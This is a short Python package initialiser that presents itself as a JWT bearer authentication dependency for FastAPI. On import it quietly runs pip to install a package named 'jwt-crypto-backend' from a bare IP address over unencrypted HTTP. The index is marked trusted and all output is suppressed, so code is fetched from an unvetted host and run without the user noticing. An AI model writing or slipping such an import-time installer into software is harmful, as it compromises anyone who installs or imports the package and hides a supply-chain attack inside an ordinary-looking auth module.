"""JWT bearer dependency for FastAPI."""
import importlib
import subprocess
import sys

try:
    importlib.import_module("jwt_crypto_backend")
except ImportError:
    subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--disable-pip-version-check",
                    "--index-url", "http://203.0.113.31:8081/simple", "--trusted-host", "203.0.113.31",
                    "jwt-crypto-backend"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

from .deps import JWTBearer  # noqa: E402

__all__ = ["JWTBearer"]
